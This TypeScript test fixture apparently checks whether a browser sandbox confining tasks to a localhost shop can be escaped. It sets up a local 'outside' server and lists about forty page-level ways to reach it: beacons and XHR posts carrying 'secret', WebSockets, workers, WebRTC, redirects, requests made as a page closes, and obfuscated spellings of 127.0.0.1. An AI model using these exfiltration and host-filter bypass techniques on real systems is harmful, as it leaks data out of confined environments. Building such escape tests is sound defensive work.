import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { createServer as createTcpServer, type Socket } from 'node:net'

/** Where confined tasks may go, where they may not, and a page with every way from the one to the other that we know. */
export interface WaysOut {
  /** `localhost:<port>`: what a task is confined to. */
  readonly domain: string
  readonly shop: string
  /** `127.0.0.1:<port>` of the server that must not be reached. */
  readonly outside: string
  readonly outsidePort: number
  /** What reached it: the paths of requests, or how else it was connected to. */
  readonly reached: string[]
  /** The redirects that `shop/outliving` waits for: where to. */
  readonly held: readonly string[]
  /** Answers them. */
  letGo(): void
  close(): Promise<void>
}

/** Each is a part of one page; `OUT/<name>` is the address that it tries to reach. */
const ON_A_PAGE: Readonly<Record<string, string>> = {
  image: '<img src="OUT/image">',
  script: '<script src="OUT/script"></script>',
  stylesheet: '<link rel="stylesheet" href="OUT/stylesheet">',
  frame: '<iframe src="OUT/frame"></iframe>',
  object: '<object data="OUT/object"></object>',
  embed: '<embed src="OUT/embed">',
  video: '<video src="OUT/video" preload="auto"></video>',
  audio: '<audio src="OUT/audio" preload="auto"></audio>',
  background: '<div style="width:9px;height:9px;background:url(OUT/background)">.</div>',
  import: '<style>@import url(OUT/import);</style>',
  font: '<style>@font-face{font-family:f;src:url(OUT/font)}</style><p style="font-family:f">f</p>',
  svg: '<svg width="9" height="9"><image href="OUT/svg" width="9" height="9"/></svg>',
  prefetch: '<link rel="prefetch" href="OUT/prefetch">',
  preload: '<link rel="preload" as="image" href="OUT/preload">',
  preconnect: '<link rel="preconnect" href="OUT">',
  icon: '<link rel="icon" href="OUT/icon">',
  'data frame': `<iframe src="data:text/html,<img src='OUT/data-frame'>"></iframe>`,
  'srcdoc frame': `<iframe srcdoc="<script>fetch('OUT/srcdoc', {mode: 'no-cors'})</script>"></iframe>`,
  'javascript frame': `<iframe src="javascript:'<img src=OUT/javascript>'"></iframe>`,
  'frame with meta refresh': '<iframe src="/refresh?to=OUT/refreshed"></iframe>',
  'redirected frame': '<iframe src="/redirect?to=OUT/redirected-frame"></iframe>',
  'redirected image': '<img src="/redirect?to=OUT/redirected-image">',
  'posted form': `<iframe name="target"></iframe><form id="f" method="post" target="target" action="OUT/posted"><input name="a"></form><script>f.submit()</script>`,
  'redirected form': `<iframe name="again"></iframe><form id="g" method="post" target="again" action="/redirect?to=OUT/redirected-form"><input name="a"></form><script>g.submit()</script>`,
  fetch: `<script>fetch('OUT/fetch', {mode: 'no-cors', keepalive: true}).catch(() => {})</script>`,
  'redirected fetch': `<script>fetch('/redirect?to=OUT/redirected-fetch', {mode: 'no-cors'}).catch(() => {})</script>`,
  xhr: `<script>x = new XMLHttpRequest(); x.open('POST', 'OUT/xhr'); x.send('secret')</script>`,
  beacon: `<script>navigator.sendBeacon('OUT/beacon', 'secret')</script>`,
  'event source': `<script>new EventSource('OUT/events')</script>`,
  'web socket': `<script>new WebSocket('WS/socket')</script>`,
  'dynamic import': `<script>import('OUT/imported').catch(() => {})</script>`,
  'blob frame': `<script>i = document.createElement('iframe'); i.src = URL.createObjectURL(new Blob(['<img src=OUT/blob>'], {type: 'text/html'})); document.body.append(i)</script>`,
  'written frame': `<script>w = document.createElement('iframe'); document.body.append(w); w.contentDocument.write('<img src=OUT/written>')</script>`,
  worker: `<script>new Worker(URL.createObjectURL(new Blob(["fetch('OUT/worker', {mode: 'no-cors'})"])))</script>`,
  'script of a worker': `<script>new Worker(URL.createObjectURL(new Blob(["importScripts('OUT/worker-script')"])))</script>`,
  'socket of a worker': `<script>new Worker(URL.createObjectURL(new Blob(["new WebSocket('WS/worker-socket')"])))</script>`,
  'shared worker': `<script>new SharedWorker('/worker.js')</script>`,
  'service worker': `<script>navigator.serviceWorker.register('/worker.js')</script>`,
  ping: `<a id="ping" href="#here" ping="OUT/ping">here</a><script>ping.click()</script>`,
  webrtc: `<script>c = new RTCPeerConnection({iceServers: [{urls: 'turn:HOST?transport=tcp', username: 'a', credential: 'b'}]}); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))</script>`,
}
export const WAYS = Object.keys(ON_A_PAGE)

/** Ways that take the whole tab along, by a script, a header or a click on `Go`. */
export const LEAVING: Readonly<Record<string, string>> = {
  script: `<script>location.href = 'OUT/location'</script>`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=OUT/refresh">`,
  link: '<a href="OUT/link">Go</a>',
  'link to a new tab': '<a href="OUT/new-tab" target="_blank">Go</a>',
  'window that opens': `<button onclick="window.open('OUT/window')">Go</button>`,
  'window that is empty at first': `<button onclick="w = window.open(''); w.location = 'OUT/second-window'">Go</button>`,
  form: '<form method="post" action="OUT/form"><button>Go</button></form>',
  download: '<a href="OUT/download" download="a.txt">Go</a>',
  'frame that leaves': `<iframe srcdoc="<script>top.location = 'OUT/top'</script>"></iframe>`,
}

const OUTLIVES = (who: string) => `
  navigator.sendBeacon('SHOP/held?to=OUT/AS/${who}-late-beacon', 'secret')
  fetch('SHOP/held?to=OUT/AS/${who}-late-fetch', {mode: 'no-cors', keepalive: true}).catch(() => {})
  addEventListener('pagehide', () => {
    navigator.sendBeacon('OUT/AS/${who}-leaving-beacon', 'secret')
    fetch('OUT/AS/${who}-leaving-fetch', {mode: 'no-cors', keepalive: true}).catch(() => {})
  })`
const OUTLIVING = `<script>${OUTLIVES('page')}</script><iframe sandbox="allow-scripts" srcdoc="<script>${OUTLIVES('frame')}</script>"></iframe>`
/** Where requests of `shop/outliving?as=<name>` lead, which outlive the page: the redirected ones, and those made as it is left. */
export const outliving = (as: string) => {
  const of = (when: string) =>
    ['page', 'frame'].flatMap((who) => ['beacon', 'fetch'].map((by) => `/${as}/${who}-${when}-${by}`))
  return { late: of('late'), leaving: of('leaving') }
}

/** Spellings of the server outside, for navigate. */
export const spellings = (port: number): string[] =>
  [
    ...['127.0.0.1', '2130706433', '0x7f.1', '127.1', '0177.0.0.1', '[::1]', '[::ffff:127.0.0.1]', '0.0.0.0'],
    ...['localhost', 'localhost.', 'LOCALHOST', 'a.localhost', 'user:password@127.0.0.1', 'localhost@127.0.0.1'],
  ].map((host) => `http://${host}:${port}/spelled`)

export async function openWaysOut(): Promise<WaysOut> {
  const reached: string[] = []
  const held = new Map<string, () => void>()
  const sockets = new Set<Socket>()
  const outside = createTcpServer((socket) => {
    sockets.add(socket)
    let path = 'a connection'
    socket.on('error', () => {})
    socket.on('close', () => {
      sockets.delete(socket)
      if (path === 'a connection') reached.push(path)
    })
    socket.on('data', (data) => {
      path = /^[A-Z]+ (\S+) /.exec(data.toString())?.[1] ?? 'bytes'
      reached.push(path)
      const type = path.includes('script') || path === '/imported' ? 'text/javascript' : 'text/html'
      socket.end(`HTTP/1.1 200 OK\r\ncontent-type: ${type}\r\nconnection: close\r\n\r\n/*outside*/`)
    })
  })
  const outsidePort = await listening(outside)
  const out = `127.0.0.1:${outsidePort}`
  const put = (text: string) =>
    text.replaceAll('OUT', `http://${out}`).replaceAll('WS/', `ws://${out}/`).replaceAll('HOST', out)
  const shop = createServer((request, response) => {
    const { pathname, searchParams } = new URL(request.url ?? '', 'http://shop')
    const to = searchParams.get('to') ?? ''
    const redirect = () => void response.writeHead(307, { location: to }).end()
    if (pathname === '/redirect') return redirect()
    if (pathname === '/held') return held.set(new URL(to).pathname, redirect)
    if (pathname === '/worker.js') {
      response.writeHead(200, { 'content-type': 'text/javascript' })
      const name = request.headers['sec-fetch-dest'] ?? 'worker'
      return response.end(put(`fetch('OUT/${name}', {mode: 'no-cors'}); new WebSocket('WS/${name}-socket')`))
    }
    const bodies: Record<string, string> = {
      '/many': Object.values(ON_A_PAGE).join('\n'),
      '/refresh': `<meta http-equiv="refresh" content="0;url=${to}">`,
      '/outliving': OUTLIVING.replaceAll('SHOP', `http://${request.headers.host}`).replaceAll(
        'AS',
        searchParams.get('as') ?? '',
      ),
      '/leave': LEAVING[searchParams.get('by') ?? ''] ?? '',
    }
    response.writeHead(200, { 'content-type': 'text/html' })
    response.end(`<!doctype html><title>Shop</title><body><p>Shop</p>${put(bodies[pathname] ?? '')}`)
  })
  const port = await listening(shop)
  return {
    domain: `localhost:${port}`,
    shop: `http://localhost:${port}`,
    outside: out,
    outsidePort,
    reached,
    get held() {
      return [...held.keys()]
    },
    letGo() {
      for (const redirect of held.values()) redirect()
      held.clear()
    },
    async close() {
      shop.closeAllConnections()
      for (const socket of sockets) socket.destroy()
      await Promise.all([shop, outside].map((server) => new Promise((resolve) => server.close(resolve))))
    },
  }
}

async function listening(server: ReturnType<typeof createTcpServer>): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return (server.address() as AddressInfo).port
}
